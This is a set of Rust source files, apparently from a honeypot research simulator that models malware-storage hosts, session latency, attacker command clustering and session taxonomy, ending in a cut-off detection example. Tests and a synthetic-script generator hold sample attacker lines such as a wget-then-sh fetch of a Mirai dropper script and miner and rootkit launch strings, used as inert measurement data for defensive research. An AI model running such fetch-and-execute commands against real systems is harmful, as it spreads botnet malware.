use std::cell::Cell;
use std::collections::HashMap;

/// One malware-storage host.
#[derive(Debug, Clone)]
pub struct StorageIp {
    /// Address (inside a storage AS).
    pub ip: Ipv4Addr,
    /// The announcing AS.
    pub asn: u32,
    /// Days on which the host serves files (inclusive windows).
    pub active_windows: Vec<(Date, Date)>,
}

impl StorageIp {
    /// Whether the host serves on `d`.
    pub fn active_on(&self, d: Date) -> bool {
        self.active_windows.iter().any(|(s, e)| d >= *s && d <= *e)
    }

    /// Every individual day the host is active (for Fig. 9).
    pub fn active_days(&self) -> Vec<Date> {
        let mut out = Vec::new();
        for (s, e) in &self.active_windows {
            let mut d = *s;
            while d <= *e {
                out.push(d);
                d = d.plus_days(1);
            }
        }
        out.sort_unstable();
        out.dedup();
        out
    }
}

/// The ecosystem: hosts plus file-content synthesis.
pub struct StorageEcosystem {
    ips: Vec<StorageIp>,
    by_ip: HashMap<Ipv4Addr, usize>,
    seeds: SeedTree,
    variant_period_days: i64,
    mutation_prob: f64,
    /// Ground truth: hex hash → family, filled as content is minted.
    ground_truth: Mutex<HashMap<String, MalwareFamily>>,
}

/// Configuration for ecosystem synthesis.
#[derive(Debug, Clone)]
pub struct StorageConfig {
    /// Number of storage IPs (paper: ~3k; scaled by the driver).
    pub n_ips: usize,
    /// Study window.
    pub window_start: Date,
    /// Study window end.
    pub window_end: Date,
    /// Probability an IP reappears ≥6 months after its first window.
    pub reappear_prob: f64,
    /// Days between scheduled variant changes per (IP, family).
    pub variant_period_days: i64,
    /// Per-download probability of an ad-hoc variant (polymorphism).
    pub mutation_prob: f64,
}

impl StorageConfig {
    /// Paper-calibrated defaults.
    pub fn paper_defaults(window_start: Date, window_end: Date) -> Self {
        Self {
            n_ips: 300,
            window_start,
            window_end,
            reappear_prob: 0.25,
            variant_period_days: 3,
            mutation_prob: 0.15,
        }
    }
}

impl StorageEcosystem {
    /// Builds the ecosystem, placing IPs inside the given storage ASes.
    /// `as_slots` yields `(asn, address)` candidate pairs.
    /// `as_slots` yields `(asn, address, preferred_first_activity)`: when
    /// the hosting AS was registered recently, attackers put it to use
    /// shortly afterwards (the Fig. 8a "young AS" preference), so the
    /// caller can steer the first activity window.
    pub fn new(
        cfg: &StorageConfig,
        seeds: SeedTree,
        mut as_slots: impl FnMut(usize, &mut StdRng) -> (u32, Ipv4Addr, Option<Date>),
    ) -> Self {
        let mut rng = seeds.rng("storage-ips");
        let mut ips = Vec::with_capacity(cfg.n_ips);
        let span = cfg.window_end.days_since(cfg.window_start);
        for i in 0..cfg.n_ips {
            let (asn, ip, preferred) = as_slots(i, &mut rng);
            // First activity window: near the AS's registration when the
            // caller says so, uniform otherwise.
            let start = match preferred {
                Some(p) if p >= cfg.window_start && p <= cfg.window_end => p,
                _ => cfg
                    .window_start
                    .plus_days(rng.random_range(0..=span.max(1))),
            };
            let dur = activity_duration(&mut rng);
            let end = clamp_date(start.plus_days(dur - 1), cfg.window_end);
            let mut windows = vec![(start, end)];
            // Long-dormancy reappearance (Fig. 9's ≥6-month recalls).
            if rng.random::<f64>() < cfg.reappear_prob {
                let gap = rng.random_range(180..400);
                let s2 = start.plus_days(gap);
                if s2 <= cfg.window_end {
                    let d2 = activity_duration(&mut rng);
                    windows.push((s2, clamp_date(s2.plus_days(d2 - 1), cfg.window_end)));
                }
            }
            ips.push(StorageIp {
                ip,
                asn,
                active_windows: windows,
            });
        }
        let by_ip = ips.iter().enumerate().map(|(i, s)| (s.ip, i)).collect();
        Self {
            ips,
            by_ip,
            seeds,
            variant_period_days: cfg.variant_period_days.max(1),
            mutation_prob: cfg.mutation_prob,
            ground_truth: Mutex::new(HashMap::new()),
        }
    }

    /// All storage hosts.
    pub fn ips(&self) -> &[StorageIp] {
        &self.ips
    }

    /// Host metadata by address.
    pub fn get(&self, ip: Ipv4Addr) -> Option<&StorageIp> {
        self.by_ip.get(&ip).map(|&i| &self.ips[i])
    }

    /// Picks a dropper URI for `family` on date `d`, preferring hosts that
    /// are currently active (a bot whose dropper is down still emits the
    /// command — the download just fails).
    ///
    /// With probability `self_host_prob` the "storage" is the attacking
    /// client itself (paper: 20 % of download sessions use the client IP).
    pub fn pick_uri(
        &self,
        family: MalwareFamily,
        d: Date,
        client_ip: Ipv4Addr,
        self_host_prob: f64,
        rng: &mut StdRng,
    ) -> String {
        let host = if rng.random::<f64>() < self_host_prob {
            client_ip
        } else {
            let active: Vec<&StorageIp> = self.ips.iter().filter(|s| s.active_on(d)).collect();
            if active.is_empty() || rng.random::<f64>() < 0.08 {
                // Dead dropper: bot config lags behind takedowns.
                self.ips[rng.random_range(0..self.ips.len())].ip
            } else {
                active[rng.random_range(0..active.len())].ip
            }
        };
        let variant = self.variant_index(host, family, d, rng);
        format!("http://{host}/{}-{variant}.sh", family_tag(family))
    }

    /// Picks a dropper URI without checking host activity — the behaviour
    /// of bots whose configuration outlived their infrastructure. Most
    /// picks land on hosts that are dark at `d`, so the download fails and
    /// the later exec records "file missing" (the Fig. 4 collapse).
    pub fn pick_stale_uri(&self, family: MalwareFamily, d: Date, rng: &mut StdRng) -> String {
        let host = self.ips[rng.random_range(0..self.ips.len())].ip;
        let variant = self.variant_index(host, family, d, rng);
        format!("http://{host}/{}-{variant}.sh", family_tag(family))
    }

    /// Variant index for `(host, family)` at `d`: changes every
    /// `variant_period_days` plus occasional per-download mutation.
    fn variant_index(
        &self,
        host: Ipv4Addr,
        family: MalwareFamily,
        d: Date,
        rng: &mut StdRng,
    ) -> u64 {
        let epoch = (d.to_epoch_days() / self.variant_period_days) as u64;
        let base = hutil::rng::derive_seed(
            self.seeds.seed(),
            &format!("variant/{host}/{}/{epoch}", family_tag(family)),
        ) % 100_000;
        if rng.random::<f64>() < self.mutation_prob {
            base + 100_000 + rng.random_range(0..1_000_000)
        } else {
            base
        }
    }

    /// Content served for a URI path, minting ground truth as a side
    /// effect. Returns `None` for paths that don't parse.
    fn content_for(&self, path: &str) -> Option<Vec<u8>> {
        let stem = path.trim_start_matches('/').trim_end_matches(".sh");
        let (tag, variant) = stem.rsplit_once('-')?;
        let family = family_from_tag(tag)?;
        let content = synth_script(family, variant);
        let hash = Sha256::hex_digest(&content);
        self.ground_truth.lock().entry(hash).or_insert(family);
        Some(content)
    }

    /// Resolves a full URI on date `d` — the serving logic behind the
    /// honeypot's download commands.
    pub fn serve(&self, uri: &str, d: Date) -> Option<Vec<u8>> {
        let rest = uri.split("://").nth(1)?;
        let (host_str, path) = rest.split_once('/')?;
        let host = Ipv4Addr::parse(host_str)?;
        match self.get(host) {
            Some(storage_ip) => {
                if storage_ip.active_on(d) {
                    self.content_for(&format!("/{path}"))
                } else {
                    None
                }
            }
            // Self-hosted (client-IP) droppers serve whenever the bot does.
            None => self.content_for(&format!("/{path}")),
        }
    }

    /// Snapshot of ground truth (hash → family) minted so far.
    pub fn ground_truth(&self) -> HashMap<String, MalwareFamily> {
        self.ground_truth.lock().clone()
    }
}

/// A `RemoteStore` façade with a settable "current date", used by the
/// session driver (the trait has no time parameter by design — real
/// droppers don't either, they just go away).
pub struct StorageStore<'e> {
    eco: &'e StorageEcosystem,
    today: Cell<Date>,
}

impl<'e> StorageStore<'e> {
    /// Creates the façade starting at `d`.
    pub fn new(eco: &'e StorageEcosystem, d: Date) -> Self {
        Self {
            eco,
            today: Cell::new(d),
        }
    }

    /// Advances the simulated date.
    pub fn set_today(&self, d: Date) {
        self.today.set(d);
    }
}

impl honeypot::RemoteStore for StorageStore<'_> {
    fn fetch(&self, uri: &str) -> Option<Vec<u8>> {
        self.eco.serve(uri, self.today.get())
    }
}

fn activity_duration(rng: &mut StdRng) -> i64 {
    let u: f64 = rng.random();
    if u < 0.50 {
        1
    } else if u < 0.70 {
        rng.random_range(2..=4)
    } else {
        rng.random_range(7..=30)
    }
}

fn clamp_date(d: Date, max: Date) -> Date {
    if d > max {
        max
    } else {
        d
    }
}

/// Short path tag per family.
pub fn family_tag(f: MalwareFamily) -> &'static str {
    match f {
        MalwareFamily::Malicious => "mal",
        MalwareFamily::Mirai => "mirai",
        MalwareFamily::Dofloo => "dofloo",
        MalwareFamily::Gafgyt => "gafgyt",
        MalwareFamily::CoinMiner => "miner",
        MalwareFamily::XorDdos => "xor",
    }
}

fn family_from_tag(tag: &str) -> Option<MalwareFamily> {
    Some(match tag {
        "mal" => MalwareFamily::Malicious,
        "mirai" => MalwareFamily::Mirai,
        "dofloo" => MalwareFamily::Dofloo,
        "gafgyt" => MalwareFamily::Gafgyt,
        "miner" => MalwareFamily::CoinMiner,
        "xor" => MalwareFamily::XorDdos,
        _ => return None,
    })
}

/// Deterministic synthetic payload for `(family, variant)` — realistic
/// enough to hash and size like a loader script.
fn synth_script(family: MalwareFamily, variant: &str) -> Vec<u8> {
    format!(
        "#!/bin/sh\n# {} loader variant {}\nfor a in x86 mips arm; do\n  cp /bin/sh .{}; done\n{}\n",
        family_tag(family),
        variant,
        variant,
        match family {
            MalwareFamily::CoinMiner => "./xmrig -o pool:3333 --donate-level 0",
            MalwareFamily::XorDdos => "insmod rootkit.ko; ./xor.d",
            MalwareFamily::Mirai => "./dvrHelper tcp 23",
            MalwareFamily::Gafgyt => "./bashlite 198.18.0.1 666",
            MalwareFamily::Dofloo => "./aesddos start",
            MalwareFamily::Malicious => "./payload run",
        }
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn eco() -> StorageEcosystem {
        let cfg = StorageConfig {
            n_ips: 100,
            window_start: Date::new(2021, 12, 1),
            window_end: Date::new(2024, 8, 31),
            reappear_prob: 0.25,
            variant_period_days: 3,
            mutation_prob: 0.15,
        };
        StorageEcosystem::new(&cfg, SeedTree::new(11), |i, _| {
            (
                65_500 + (i % 40) as u32,
                Ipv4Addr(0x2000_0000 + i as u32 * 7),
                None,
            )
        })
    }

    #[test]
    fn activity_duration_marginals() {
        let mut rng = StdRng::seed_from_u64(3);
        let durs: Vec<i64> = (0..10_000).map(|_| activity_duration(&mut rng)).collect();
        let one = durs.iter().filter(|&&d| d == 1).count() as f64 / durs.len() as f64;
        let short = durs.iter().filter(|&&d| d <= 4).count() as f64 / durs.len() as f64;
        assert!((0.45..0.55).contains(&one), "one-day fraction {one}");
        assert!((0.65..0.75).contains(&short), "≤4-day fraction {short}");
    }

    #[test]
    fn reappearance_rate_matches_config() {
        let e = eco();
        let re = e
            .ips()
            .iter()
            .filter(|s| s.active_windows.len() > 1)
            .count() as f64
            / e.ips().len() as f64;
        assert!((0.10..0.40).contains(&re), "reappear fraction {re}");
        // Reappearance gaps are ≥ 6 months.
        for s in e.ips() {
            if s.active_windows.len() > 1 {
                let gap = s.active_windows[1].0.days_since(s.active_windows[0].0);
                assert!(gap >= 180, "gap {gap} too short");
            }
        }
    }

    #[test]
    fn serve_honours_activity_windows() {
        let e = eco();
        let s = &e.ips()[0];
        let (start, _end) = s.active_windows[0];
        let uri = format!("http://{}/mirai-42.sh", s.ip);
        assert!(e.serve(&uri, start).is_some());
        // Long before the first window the host is dark.
        if start > Date::new(2021, 12, 1) {
            assert!(e
                .serve(&uri, Date::new(2021, 12, 1).plus_days(-1))
                .is_none());
        }
    }

    #[test]
    fn ground_truth_accumulates_on_serve() {
        let e = eco();
        let s = &e.ips()[0];
        let d = s.active_windows[0].0;
        e.serve(&format!("http://{}/gafgyt-7.sh", s.ip), d).unwrap();
        e.serve(&format!("http://{}/miner-9.sh", s.ip), d).unwrap();
        let gt = e.ground_truth();
        assert_eq!(gt.len(), 2);
        assert!(gt.values().any(|f| *f == MalwareFamily::Gafgyt));
        assert!(gt.values().any(|f| *f == MalwareFamily::CoinMiner));
    }

    #[test]
    fn variants_have_distinct_hashes() {
        let a = synth_script(MalwareFamily::Mirai, "1");
        let b = synth_script(MalwareFamily::Mirai, "2");
        assert_ne!(Sha256::hex_digest(&a), Sha256::hex_digest(&b));
        // Same variant is bit-identical (stable hash for reproducibility).
        assert_eq!(synth_script(MalwareFamily::Mirai, "1"), a);
    }

    #[test]
    fn pick_uri_prefers_active_hosts() {
        let e = eco();
        let mut rng = StdRng::seed_from_u64(4);
        let d = Date::new(2023, 3, 1);
        let mut active_hits = 0;
        let n = 200;
        for _ in 0..n {
            let uri = e.pick_uri(MalwareFamily::Mirai, d, Ipv4Addr(1), 0.0, &mut rng);
            let host = uri.split('/').nth(2).unwrap();
            let ip = Ipv4Addr::parse(host).unwrap();
            if e.get(ip).is_some_and(|s| s.active_on(d)) {
                active_hits += 1;
            }
        }
        assert!(active_hits > n * 7 / 10, "only {active_hits}/{n} active");
    }

    #[test]
    fn self_hosting_uses_client_ip() {
        let e = eco();
        let mut rng = StdRng::seed_from_u64(5);
        let client = Ipv4Addr::from_octets(10, 1, 1, 1);
        let uri = e.pick_uri(
            MalwareFamily::Gafgyt,
            Date::new(2022, 6, 1),
            client,
            1.0,
            &mut rng,
        );
        assert!(uri.contains("10.1.1.1"));
        // And it serves regardless of storage schedules.
        assert!(e.serve(&uri, Date::new(2022, 6, 1)).is_some());
    }

    #[test]
    fn storage_store_tracks_date() {
        use honeypot::RemoteStore;
        let e = eco();
        let s = &e.ips()[1];
        let (start, _) = s.active_windows[0];
        let store = StorageStore::new(&e, start);
        let uri = format!("http://{}/xor-3.sh", s.ip);
        assert!(store.fetch(&uri).is_some());
        store.set_today(start.plus_days(-10));
        if start.plus_days(-10) >= Date::new(2021, 12, 1) {
            assert!(store.fetch(&uri).is_none());
        }
    }
}
