//! Seeded per-path latency model.
//!
//! Honeypot session durations in the dataset are bounded below by network
//! round-trips (TCP + SSH handshakes + one round-trip per command) and above
//! by the honeypot's 3-minute idle timeout. The model here is deliberately
//! coarse — a base RTT per distance class plus log-normal-ish jitter — but
//! it is deterministic per (client, server) pair, so replaying a scenario
//! reproduces identical session timings.

use crate::ip::Ipv4Addr;
use hutil::rng::derive_seed;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Rough geographic distance class between two endpoints.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PathClass {
    /// Same metro / same AS: ~2 ms base.
    Local,
    /// Same continent: ~30 ms base.
    Continental,
    /// Intercontinental: ~120 ms base.
    Intercontinental,
}

impl PathClass {
    /// Base one-way delay in milliseconds.
    pub fn base_ms(self) -> u32 {
        match self {
            PathClass::Local => 2,
            PathClass::Continental => 30,
            PathClass::Intercontinental => 120,
        }
    }
}

/// Deterministic latency model.
#[derive(Debug, Clone)]
pub struct LatencyModel {
    seed: u64,
}

impl LatencyModel {
    /// Creates a model namespaced under `seed`.
    pub fn new(seed: u64) -> Self {
        Self { seed }
    }

    /// Distance class for a pair, derived from the address pair alone so
    /// the same pair always sees the same class.
    pub fn path_class(&self, a: Ipv4Addr, b: Ipv4Addr) -> PathClass {
        let h = derive_seed(self.seed, &format!("path/{}/{}", a, b));
        match h % 10 {
            0..=1 => PathClass::Local,
            2..=5 => PathClass::Continental,
            _ => PathClass::Intercontinental,
        }
    }

    /// One round-trip time in milliseconds for the pair, with jitter drawn
    /// from a per-pair stream (so repeated calls vary, but the whole
    /// sequence is reproducible).
    pub fn rtt_ms(&self, a: Ipv4Addr, b: Ipv4Addr, round: u32) -> u32 {
        let base = self.path_class(a, b).base_ms() * 2;
        let mut rng = StdRng::seed_from_u64(derive_seed(
            self.seed,
            &format!("rtt/{}/{}/{}", a, b, round),
        ));
        // Multiplicative jitter in [1.0, 2.5), heavier tail via squaring.
        let u: f64 = rng.random();
        let jitter = 1.0 + 1.5 * u * u;
        (base as f64 * jitter) as u32
    }

    /// Total wall-clock seconds consumed by `n` command round-trips.
    pub fn command_secs(&self, a: Ipv4Addr, b: Ipv4Addr, n: u32) -> i64 {
        let ms: u64 = (0..n).map(|i| self.rtt_ms(a, b, i) as u64).sum();
        // At least one second of think time per command batch.
        ((ms / 1000) as i64).max(1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ip(n: u32) -> Ipv4Addr {
        Ipv4Addr(n)
    }

    #[test]
    fn path_class_is_stable() {
        let m = LatencyModel::new(1);
        assert_eq!(m.path_class(ip(1), ip(2)), m.path_class(ip(1), ip(2)));
    }

    #[test]
    fn rtt_is_deterministic_per_round() {
        let m = LatencyModel::new(1);
        assert_eq!(m.rtt_ms(ip(1), ip(2), 0), m.rtt_ms(ip(1), ip(2), 0));
        // Different rounds may differ (jitter).
        let any_diff = (0..32).any(|r| m.rtt_ms(ip(1), ip(2), r) != m.rtt_ms(ip(1), ip(2), 0));
        assert!(any_diff, "jitter should vary across rounds");
    }

    #[test]
    fn rtt_bounds_respect_class() {
        let m = LatencyModel::new(3);
        for x in 0..50u32 {
            let a = ip(x * 7 + 1);
            let b = ip(x * 13 + 5);
            let base = m.path_class(a, b).base_ms() * 2;
            let rtt = m.rtt_ms(a, b, 0);
            assert!(rtt >= base, "rtt below base");
            assert!(
                rtt <= base * 3,
                "rtt {rtt} exceeds jitter ceiling for base {base}"
            );
        }
    }

    #[test]
    fn command_secs_monotone_in_count() {
        let m = LatencyModel::new(9);
        let s1 = m.command_secs(ip(1), ip(2), 1);
        let s100 = m.command_secs(ip(1), ip(2), 100);
        assert!(s100 >= s1);
        assert!(s1 >= 1);
    }
}
