//! Command tokenization for clustering (paper §6).
//!
//! Sessions are compared as *token sequences*: `"mkdir /tmp;cd /tmp"` →
//! `["mkdir", "/tmp", "cd", "/tmp"]`. Treating each token as a unit makes
//! the distance robust to attacker churn in IPs, filenames and directories
//! — exactly the paper's rationale for token-level DLD.

/// Splits a session's command text into tokens: separators are whitespace
/// and the shell operators `;`, `|`, `&`, `>`, `<` (operators are dropped,
/// as in the paper's example).
pub fn tokenize(command_text: &str) -> Vec<String> {
    command_text
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '>' | '<'))
        .filter(|t| !t.is_empty())
        .map(|t| t.trim_matches(|c| c == '"' || c == '\'').to_string())
        .filter(|t| !t.is_empty())
        .collect()
}

/// A canonicalised token sequence used as a clustering signature: tokens
/// that are pure "churn" (IPs, URLs, long hex, random-looking names) are
/// replaced by placeholders so that identical *behaviour* dedupes to the
/// same signature. This is our scaling substitution for the paper's
/// (unstated) sampling; the ablation bench quantifies its effect.
pub fn signature(command_text: &str) -> Vec<String> {
    tokenize(command_text)
        .into_iter()
        .map(|t| canonicalize(&t))
        .collect()
}

fn canonicalize(tok: &str) -> String {
    if tok.contains("://") || tok.starts_with("www.") {
        return "<URL>".to_string();
    }
    if looks_like_ip(tok) {
        return "<IP>".to_string();
    }
    if tok.len() >= 8 && tok.chars().all(|c| c.is_ascii_hexdigit()) {
        return "<HEX>".to_string();
    }
    // root:<pw> lockout payloads.
    if let Some(rest) = tok.strip_prefix("root:") {
        if rest.len() >= 8 {
            return "root:<PW>".to_string();
        }
    }
    // Random-looking filename/token: long mixed-case alphanumerics that are
    // not a known command word.
    if tok.len() >= 5
        && tok
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_')
        && tok.chars().any(|c| c.is_ascii_digit())
        && tok.chars().any(|c| c.is_ascii_alphabetic())
    {
        return "<NAME>".to_string();
    }
    tok.to_string()
}

fn looks_like_ip(tok: &str) -> bool {
    let t = tok.trim_end_matches(['/', ':']);
    netsim::Ipv4Addr::parse(t).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_example() {
        assert_eq!(
            tokenize("mkdir /tmp;cd /tmp"),
            vec!["mkdir", "/tmp", "cd", "/tmp"]
        );
    }

    #[test]
    fn operators_are_separators() {
        assert_eq!(
            tokenize("wget http://a/b && sh b | grep x > out"),
            vec!["wget", "http://a/b", "sh", "b", "grep", "x", "out"]
        );
    }

    #[test]
    fn quotes_are_stripped() {
        assert_eq!(tokenize(r#"echo "ssh key""#), vec!["echo", "ssh", "key"]);
    }

    #[test]
    fn empty_input() {
        assert!(tokenize("").is_empty());
        assert!(tokenize(" ;; | ").is_empty());
    }

    #[test]
    fn signature_canonicalises_churn() {
        let a = signature("cd /tmp; wget http://198.51.100.2/mirai-17.sh; sh mirai-17.sh");
        let b = signature("cd /tmp; wget http://203.0.113.9/gafgyt-55.sh; sh gafgyt-55.sh");
        assert_eq!(a, b, "same behaviour must share a signature");
        assert_eq!(a, vec!["cd", "/tmp", "wget", "<URL>", "sh", "<NAME>"]);
    }

    #[test]
    fn signature_keeps_command_words() {
        let s = signature("uname -s -v -n -r -m");
        assert_eq!(s, vec!["uname", "-s", "-v", "-n", "-r", "-m"]);
    }

    #[test]
    fn ip_and_hex_placeholders() {
        assert_eq!(canonicalize("203.0.113.7"), "<IP>");
        assert_eq!(canonicalize("deadbeefcafe1234"), "<HEX>");
        assert_eq!(canonicalize("root:a1b2c3d4e5f6"), "root:<PW>");
        assert_eq!(canonicalize("cd"), "cd");
        assert_eq!(canonicalize("/bin/busybox"), "/bin/busybox");
    }
}
