//! Session taxonomy and dataset statistics (paper §3.3).

use honeypot::{Protocol, SessionRecord};

/// The four-way classification every session falls into.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SessionClass {
    /// TCP handshake only; no credentials used.
    Scanning,
    /// Login attempted, never succeeded.
    Scouting,
    /// Login succeeded, no commands executed.
    Intrusion,
    /// Login succeeded and at least one command executed.
    CommandExecution,
}

impl SessionClass {
    /// Classifies one session.
    pub fn of(rec: &SessionRecord) -> Self {
        if rec.logins.is_empty() {
            SessionClass::Scanning
        } else if !rec.login_succeeded() {
            SessionClass::Scouting
        } else if rec.commands.is_empty() {
            SessionClass::Intrusion
        } else {
            SessionClass::CommandExecution
        }
    }

    /// Display label.
    pub fn label(self) -> &'static str {
        match self {
            SessionClass::Scanning => "Scanning",
            SessionClass::Scouting => "Scouting",
            SessionClass::Intrusion => "Intrusion",
            SessionClass::CommandExecution => "Command Execution",
        }
    }
}

/// The §3.3 headline statistics.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct TaxonomyStats {
    /// All sessions (SSH + Telnet).
    pub total_sessions: u64,
    /// SSH sessions.
    pub ssh_sessions: u64,
    /// Telnet sessions.
    pub telnet_sessions: u64,
    /// Unique SSH client IPs.
    pub unique_ssh_clients: u64,
    /// SSH sessions per class.
    pub scanning: u64,
    /// Scouting count.
    pub scouting: u64,
    /// Intrusion count.
    pub intrusion: u64,
    /// Command-execution count.
    pub command_execution: u64,
}

/// Streaming accumulator behind [`TaxonomyStats::compute`]: push records
/// one at a time (from any source), then [`TaxonomyAccumulator::finish`].
/// This is the form `core::AnalysisBuilder` composes into its single
/// shared pass.
#[derive(Debug, Default)]
pub struct TaxonomyAccumulator {
    stats: TaxonomyStats,
    clients: std::collections::HashSet<netsim::Ipv4Addr>,
}

impl TaxonomyAccumulator {
    /// An empty accumulator.
    pub fn new() -> Self {
        Self::default()
    }

    /// Folds one session into the statistics.
    pub fn push(&mut self, rec: &SessionRecord) {
        let s = &mut self.stats;
        s.total_sessions += 1;
        match rec.protocol {
            Protocol::Telnet => {
                s.telnet_sessions += 1;
                return;
            }
            Protocol::Ssh => s.ssh_sessions += 1,
        }
        self.clients.insert(rec.client_ip);
        match SessionClass::of(rec) {
            SessionClass::Scanning => s.scanning += 1,
            SessionClass::Scouting => s.scouting += 1,
            SessionClass::Intrusion => s.intrusion += 1,
            SessionClass::CommandExecution => s.command_execution += 1,
        }
    }

    /// Folds another accumulator in (the reduce step of a map-reduce
    /// scan): field-wise sums plus a client-set union. Associative and
    /// commutative — merging partial accumulators built over any partition
    /// of a stream yields the same [`TaxonomyAccumulator::finish`] result
    /// as one serial pass.
    pub fn merge(&mut self, other: Self) {
        let o = other.stats;
        let s = &mut self.stats;
        s.total_sessions += o.total_sessions;
        s.ssh_sessions += o.ssh_sessions;
        s.telnet_sessions += o.telnet_sessions;
        s.scanning += o.scanning;
        s.scouting += o.scouting;
        s.intrusion += o.intrusion;
        s.command_execution += o.command_execution;
        self.clients.extend(other.clients);
    }

    /// Resolves the unique-client count and returns the statistics.
    pub fn finish(self) -> TaxonomyStats {
        let mut stats = self.stats;
        stats.unique_ssh_clients = self.clients.len() as u64;
        stats
    }

    /// Non-consuming form of [`TaxonomyAccumulator::finish`]: the current
    /// statistics at this point in the stream. This is what a live
    /// aggregator publishes between pushes — the returned value for a
    /// stream prefix equals `finish()` over that same prefix.
    pub fn snapshot(&self) -> TaxonomyStats {
        let mut stats = self.stats.clone();
        stats.unique_ssh_clients = self.clients.len() as u64;
        stats
    }
}

impl TaxonomyStats {
    /// Computes the statistics over any stream of sessions — a slice, an
    /// owning iterator, or a sessiondb scan. Single pass, O(unique
    /// clients) memory.
    pub fn compute<I>(sessions: I) -> Self
    where
        I: IntoIterator,
        I::Item: std::borrow::Borrow<SessionRecord>,
    {
        let mut acc = TaxonomyAccumulator::new();
        for rec in sessions {
            acc.push(std::borrow::Borrow::borrow(&rec));
        }
        acc.finish()
    }

    /// The paper's ordering check: scouting > command-exec > intrusion >
    /// scanning (258M > 163M > 80M > 45M).
    pub fn ordering_matches_paper(&self) -> bool {
        self.scouting > self.command_execution
            && self.command_execution > self.intrusion
            && self.intrusion > self.scanning
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeypot::{LoginAttempt, SessionEndReason};
    use hutil::Date;
    use netsim::Ipv4Addr;

    fn rec(logins: Vec<(bool, &str)>, n_commands: usize, proto: Protocol) -> SessionRecord {
        SessionRecord {
            session_id: 0,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 1,
            protocol: proto,
            start: Date::new(2022, 1, 1).at_midnight(),
            end: Date::new(2022, 1, 1).at(0, 1, 0),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: logins
                .into_iter()
                .map(|(ok, pw)| LoginAttempt {
                    username: "root".into(),
                    password: pw.into(),
                    success: ok,
                })
                .collect(),
            commands: (0..n_commands)
                .map(|i| honeypot::CommandRecord {
                    input: format!("cmd{i}"),
                    known: true,
                })
                .collect(),
            uris: vec![],
            file_events: vec![],
        }
    }

    #[test]
    fn class_of_each_kind() {
        assert_eq!(
            SessionClass::of(&rec(vec![], 0, Protocol::Ssh)),
            SessionClass::Scanning
        );
        assert_eq!(
            SessionClass::of(&rec(vec![(false, "root")], 0, Protocol::Ssh)),
            SessionClass::Scouting
        );
        assert_eq!(
            SessionClass::of(&rec(vec![(false, "root"), (true, "x")], 0, Protocol::Ssh)),
            SessionClass::Intrusion
        );
        assert_eq!(
            SessionClass::of(&rec(vec![(true, "x")], 2, Protocol::Ssh)),
            SessionClass::CommandExecution
        );
    }

    #[test]
    fn stats_split_protocols_and_count_classes() {
        let sessions = vec![
            rec(vec![], 0, Protocol::Ssh),
            rec(vec![(false, "root")], 0, Protocol::Ssh),
            rec(vec![(false, "root")], 0, Protocol::Ssh),
            rec(vec![(true, "a")], 0, Protocol::Ssh),
            rec(vec![(true, "a")], 3, Protocol::Ssh),
            rec(vec![], 0, Protocol::Telnet),
        ];
        let s = TaxonomyStats::compute(&sessions);
        assert_eq!(s.total_sessions, 6);
        assert_eq!(s.ssh_sessions, 5);
        assert_eq!(s.telnet_sessions, 1);
        assert_eq!(s.scanning, 1);
        assert_eq!(s.scouting, 2);
        assert_eq!(s.intrusion, 1);
        assert_eq!(s.command_execution, 1);
        assert_eq!(s.unique_ssh_clients, 1);
    }

    #[test]
    fn paper_ordering_predicate() {
        let s = TaxonomyStats {
            scanning: 45,
            scouting: 258,
            intrusion: 80,
            command_execution: 163,
            ..Default::default()
        };
        assert!(s.ordering_matches_paper());
        let bad = TaxonomyStats { scanning: 300, ..s };
        assert!(!bad.ordering_matches_paper());
    }
}
