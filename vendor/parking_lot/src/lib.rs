//! Vendored minimal stand-in for `parking_lot`.
//!
//! Wraps `std::sync::Mutex` with `parking_lot`'s non-poisoning API: `lock()`
//! returns the guard directly. A poisoned std mutex (a panic while holding
//! the lock) is recovered by taking the inner value, matching `parking_lot`
//! semantics where poisoning does not exist.

use std::sync::{Mutex as StdMutex, MutexGuard};

#[derive(Debug, Default)]
pub struct Mutex<T> {
    inner: StdMutex<T>,
}

impl<T> Mutex<T> {
    pub const fn new(value: T) -> Self {
        Self {
            inner: StdMutex::new(value),
        }
    }

    pub fn lock(&self) -> MutexGuard<'_, T> {
        self.inner
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    pub fn into_inner(self) -> T {
        self.inner
            .into_inner()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

#[cfg(test)]
mod tests {
    use super::Mutex;

    #[test]
    fn lock_and_into_inner() {
        let m = Mutex::new(vec![1, 2]);
        m.lock().push(3);
        assert_eq!(m.into_inner(), vec![1, 2, 3]);
    }

    #[test]
    fn survives_poisoning() {
        let m = std::sync::Arc::new(Mutex::new(0u32));
        let m2 = m.clone();
        let _ = std::thread::spawn(move || {
            let _g = m2.lock();
            panic!("poison the lock");
        })
        .join();
        *m.lock() += 1;
        assert_eq!(*m.lock(), 1);
    }
}
