//! Reproduces the paper's honeypot-detection findings (§5/§8): attackers
//! fingerprinting Cowrie via the `phil` default account, probing state
//! consistency, and abusing sensors as curl proxies.
//!
//! ```sh
//! cargo run --release --example honeypot_detection
//! ```

use honeylab::core::{logins, report};
use honeylab::prelude::*;

fn main() {
    let mut cfg = DriverConfig::default_scale(7);
    cfg.session_scale = 4_000;
    cfg.ip_scale = 100;
    eprintln!("generating dataset (1:{})…", cfg.session_scale);
    let ds = generate_dataset(&cfg);

    // --- 1. Cowrie default-credential fingerprinting (Fig. 11).
    let probes = logins::cowrie_default_probes(&ds.sessions);
    println!("== fingerprinting via Cowrie default accounts ==");
    let phil_total: u64 = probes.phil_success.values().sum();
    let richard_total: u64 = probes.richard_tries.values().sum();
